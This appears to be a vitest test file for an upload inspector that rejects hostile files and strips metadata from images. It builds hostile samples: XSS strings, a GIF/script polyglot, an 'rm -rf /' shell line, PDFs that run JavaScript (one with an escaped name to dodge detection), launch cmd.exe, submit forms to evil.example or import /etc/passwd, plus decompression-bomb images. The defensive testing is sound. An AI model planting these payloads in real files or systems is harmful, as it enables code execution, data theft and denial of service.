import { crc32, deflateSync } from 'node:zlib';
import { PDFName, PDFString } from '@cantoo/pdf-lib';
import type { PDFDocument } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { beforeAll, describe, expect, test } from 'vitest';
import { aPdf, aPhoto } from '../../../test/application-makers.ts';
import * as inspection from './inspect-file.ts';
import type { Refusal } from './inspect-file.ts';

const inspectFile = (bytes: Buffer) => inspection.inspectFile(async () => bytes);

const SCRIPT = '<script>alert(1)</script>';
/** The end record of an archive without files; archives are read from their end. */
const ZIP_END = Buffer.concat([Buffer.from('504b0506', 'hex'), Buffer.alloc(18)]);

let photo: Buffer;
let png: Buffer;
let pdf: Buffer;
beforeAll(async () => {
  photo = await aPhoto();
  png = await sharp(photo).png().toBuffer();
  pdf = await aPdf();
});

const text = (words: string) => () => Buffer.from(words);

/** A chunk of a PNG with its length and checksum. */
function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** A grey PNG of these sides whose pixels are all zero; `rows` of them are really there. */
function greyPng(width: number, height: number, rows = height): Buffer {
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 0, 0, 0, 0]);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  const pixels = deflateSync(Buffer.alloc(rows * (width + 1)));
  const parts = [chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...parts]);
}

/** Puts a chunk of text behind the header of a PNG. */
const withText = (words: string) =>
  Buffer.concat([png.subarray(0, 33), chunk('tEXt', Buffer.from(`Comment\0${words}`)), png.subarray(33)]);

/** A PDF whose catalogue has one more entry. */
const withCatalog = (key: string, make: (pdf: PDFDocument) => object) => () =>
  aPdf(1, (doc) => doc.catalog.set(PDFName.of(key), doc.context.obj(make(doc) as never)));

/** A PDF whose first page has an annotation with this action. */
const withAction = (action: object) => () =>
  aPdf(1, (doc) => {
    const annotation = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: action };
    doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([annotation] as never));
  });

/** A PDF that is written by hand, with an action under a name that is spelt with an escape. */
const handWritten = (catalog: string) =>
  text(
    `%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R${catalog}>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\ntrailer\n<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n`,
  );

describe('a hostile file is refused', () => {
  // The second column says why; `kind`: it is none of the three kinds, `damaged`: it cannot be decoded as what it says.
  test.each<[string, Refusal, () => Buffer | Promise<Buffer>]>([
    ['no bytes', 'kind', text('')],
    ['one byte of a JPEG', 'kind', () => photo.subarray(0, 1)],
    ['only the mark of a JPEG', 'damaged', () => photo.subarray(0, 3)],
    ['only the mark of a PNG', 'damaged', () => png.subarray(0, 8)],
    ['only the mark of a PDF', 'damaged', text('%PDF-1.7')],
    ['SVG behind an XML declaration', 'kind', text(`<?xml version="1.0"?><svg onload="alert(1)">${SCRIPT}</svg>`)],
    ['SVG behind a byte order mark', 'kind', text(`\uFEFF<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
    ['HTML behind a comment with a PDF inside', 'kind', text(`<!-- %PDF-1.7 %%EOF -->${SCRIPT}`)],
    ['a script that is a GIF too', 'kind', text('GIF89a/*\0\0\0*/=1;alert(1)//')],
    ['a whole GIF', 'kind', () => sharp(photo).gif().toBuffer()],
    ['a WebP', 'kind', () => sharp(photo).webp().toBuffer()],
    ['a TIFF', 'kind', () => sharp(photo).tiff().toBuffer()],
    ['a BMP', 'kind', text('BM\0\0\0\0')],
    ['a program of Linux', 'kind', text('\x7fELF\x02')],
    ['a script of a shell', 'kind', text('#!/bin/sh\nrm -rf /')],
    ['a Word document of before 2007', 'kind', () => Buffer.from('d0cf11e0a1b11ae1', 'hex')],
    ['PostScript', 'kind', text('%!PS-Adobe-3.0\n(r) file')],
    ['a PDF of a version that does not exist', 'kind', text('%PDF-9.9\n%%EOF')],
    ['an archive behind a PDF', 'damaged', () => Buffer.concat([pdf, ZIP_END])],
    ['an archive before a PDF', 'kind', () => Buffer.concat([Buffer.from('PK\x03\x04'), pdf])],
    ['a web page behind a PDF', 'damaged', () => Buffer.concat([pdf, Buffer.from(SCRIPT)])],
    ['a PDF that lacks its last ten bytes', 'damaged', () => pdf.subarray(0, -10)],
    ['a PDF of no page', 'pages', handNoPages],
    ['a JPEG that lacks its end', 'damaged', () => photo.subarray(0, -200)],
    ['a PNG that lacks its end', 'damaged', () => png.subarray(0, -20)],
    ['a PNG whose pixels have a wrong checksum', 'damaged', () => wrongSum()],
    ['a PNG that claims more rows than it has', 'damaged', () => greyPng(100, 100, 50)],
    ['a PNG of 50 kB that unpacks to 50 million pixels', 'damaged', () => greyPng(10_000, 5_000)],
    ['a PNG of one row of 50 million pixels', 'damaged', () => greyPng(50_000_000, 1)],
    ['a PNG without width', 'damaged', () => greyPng(0, 10, 0)],
    ['a JPEG that claims 65,500 × 65,500 pixels', 'damaged', () => hugeJpeg()],
    [
      'a PDF that runs script when it opens',
      'active',
      withCatalog('OpenAction', () => ({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
    ],
    [
      'a PDF whose name of JavaScript is spelt with an escape',
      'active',
      handWritten('/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>'),
    ],
    ['a PDF whose link starts a program', 'active', withAction({ S: 'Launch', F: PDFString.of('cmd.exe') })],
    ['a PDF whose link opens a file elsewhere', 'active', withAction({ S: 'GoToR', F: PDFString.of('//host/share') })],
    ['a PDF that sends a form', 'active', withAction({ S: 'SubmitForm', F: PDFString.of('https://evil.example') })],
    ['a PDF that reads data from a file', 'active', withAction({ S: 'ImportData', F: PDFString.of('/etc/passwd') })],
    ['a PDF that plays a sound', 'active', withAction({ S: 'Sound' })],
    ['a PDF with an XFA form', 'active', withCatalog('AcroForm', () => ({ XFA: PDFString.of('<xdp/>'), Fields: [] }))],
    ['a PDF with an embedded file', 'active', () => aPdf(1, (doc) => doc.attach(Buffer.from('MZ'), 'a.exe'))],
    [
      'a PDF with actions on pages',
      'active',
      () => aPdf(1, (doc) => doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({}))),
    ],
    ['a PDF with script in an object stream', 'active', () => inObjectStream()],
  ])('%s (%s)', async (_what, refusal, make) => {
    const inspection = await inspectFile(await make());
    expect('refused' in inspection ? inspection.refused : 'kept').toBe(refusal);
  });
});

describe('of a picture that is kept, only the pixels are kept', () => {
  test('a photo loses its place, its thumbnail and its comments', async () => {
    const located = await sharp(photo)
      .withExif({
        IFD0: { ImageDescription: 'HOUSE-OF-ASHA' },
        IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '6/1 48/1 0/1' },
      })
      .jpeg()
      .toBuffer();
    expect((await sharp(located).metadata()).exif).toBeDefined();
    expect(located.includes('HOUSE-OF-ASHA')).toBe(true);
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, 27]), Buffer.from(SCRIPT)]);
    const given = Buffer.concat([located.subarray(0, 2), comment, located.subarray(2)]);
    const kept = await keptOf(given);
    for (const hidden of ['HOUSE-OF-ASHA', 'Exif', SCRIPT]) expect(kept.includes(hidden)).toBe(false);
    const { exif, icc, iptc, xmp } = await sharp(kept).metadata();
    expect([exif, icc, iptc, xmp]).toEqual([undefined, undefined, undefined, undefined]);
  });

  test.each<[string, () => Buffer]>([
    ['script in a text of a PNG', () => withText(SCRIPT)],
    ['a web page behind a PNG', () => Buffer.concat([png, Buffer.from(SCRIPT)])],
    ['an archive behind a PNG', () => Buffer.concat([png, ZIP_END])],
    ['an archive behind a JPEG', () => Buffer.concat([photo, ZIP_END])],
  ])('%s is gone', async (_what, make) => {
    const kept = await keptOf(make());
    for (const hidden of [SCRIPT, 'tEXt', 'PK\x05\x06']) expect(kept.includes(hidden)).toBe(false);
    expect(await sharp(kept).metadata()).toMatchObject({ width: 320, height: 240 });
  });

  test('a large picture is kept at the size at which its print is readable', async () => {
    expect(await sharp(await keptOf(greyPng(8_000, 4_000))).metadata()).toMatchObject({ width: 3000, height: 1500 });
  });
});

test('the kind follows from the content: the name and its ending are never read', async () => {
  expect(await inspectFile(png)).toMatchObject({ kind: 'png' });
  expect(await inspectFile(photo)).toMatchObject({ kind: 'jpeg' });
});

async function keptOf(bytes: Buffer): Promise<Buffer> {
  const inspection = await inspectFile(bytes);
  if ('refused' in inspection) throw new Error(`refused: ${inspection.refused}`);
  return inspection.bytes;
}

/** A whole PDF whose tree of pages is empty. */
function handNoPages(): Buffer {
  return Buffer.from(handWritten('')().toString('latin1').replace('/Kids[3 0 R]/Count 1', '/Kids[]/Count 0'), 'latin1');
}

/** A PNG with one changed bit in the checksum of its pixels. */
function wrongSum(): Buffer {
  const changed = Buffer.from(png);
  changed[changed.length - 13]! ^= 1;
  return changed;
}

/** A JPEG whose header claims 4.3 gigapixels. */
function hugeJpeg(): Buffer {
  const changed = Buffer.from(photo);
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(65_500, frame + 5);
  changed.writeUInt16BE(65_500, frame + 7);
  return changed;
}

/** A PDF whose script stands in a compressed stream of objects, where its bytes are not to be seen. */
async function inObjectStream(): Promise<Buffer> {
  const hidden = await aPdf(1, (doc) =>
    doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('x') })),
  );
  expect([hidden.includes('/ObjStm'), hidden.includes('JavaScript')]).toEqual([true, false]);
  return hidden;
}
